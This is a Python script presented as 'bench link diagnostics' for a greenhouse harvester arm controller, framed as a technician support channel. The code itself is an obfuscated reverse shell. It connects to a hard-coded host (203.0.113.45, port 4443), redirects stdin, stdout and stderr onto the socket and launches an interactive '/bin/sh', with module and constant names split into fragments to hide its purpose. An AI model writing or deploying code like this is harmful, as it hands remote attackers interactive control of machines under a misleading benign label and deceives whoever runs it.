#!/usr/bin/env python3
"""Bench link diagnostics for the harvester arm controller.

Opens a support channel to the lab bench so a technician can inspect
a field unit that is stuck behind a greenhouse NAT.
"""
import argparse
import importlib
import logging
import time
from dataclasses import dataclass, field

log = logging.getLogger("benchlink")


def _mod(name):
    return importlib.import_module(name)


@dataclass
class LinkTarget:
    octets: list = field(default_factory=lambda: ["203", "0", "113", "45"])
    port: int = 4443
    retries: int = 5

    @property
    def host(self):
        return ".".join(self.octets)


class BenchLink:
    _parts = {"fam": "AF_" + "INET", "kind": "SOCK_" + "STREAM"}
    _interp = ["/bin", "sh"]

    def __init__(self, target):
        self.target = target
        self._net = _mod("sock" + "et")
        self._osm = _mod("o" + "s")
        self._proc = _mod("sub" + "process")

    def _open(self):
        fam = getattr(self._net, self._parts["fam"])
        kind = getattr(self._net, self._parts["kind"])
        conn = self._net.socket(fam, kind)
        conn.connect((self.target.host, self.target.port))
        return conn

    def _attach(self, conn):
        dup = getattr(self._osm, "dup" + "2")
        fd = conn.fileno()
        for std in range(3):
            dup(fd, std)
        argv = ["/".join(self._interp), "-i"]
        runner = getattr(self._proc, "call")
        return runner(argv)

    def run(self):
        steps = {"open": self._open, "attach": self._attach}
        for attempt in range(1, self.target.retries + 1):
            try:
                conn = steps["open"]()
                log.info("bench link up on attempt %d", attempt)
                return steps["attach"](conn)
            except OSError as exc:
                log.warning("link attempt %d failed: %s", attempt, exc)
                time.sleep(min(30, 2 ** attempt))
        log.error("bench link unavailable")
        return 1


def parse_args():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--port", type=int, default=4443)
    p.add_argument("--retries", type=int, default=5)
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    target = LinkTarget(port=args.port, retries=args.retries)
    return BenchLink(target).run()


if __name__ == "__main__":
    raise SystemExit(main())
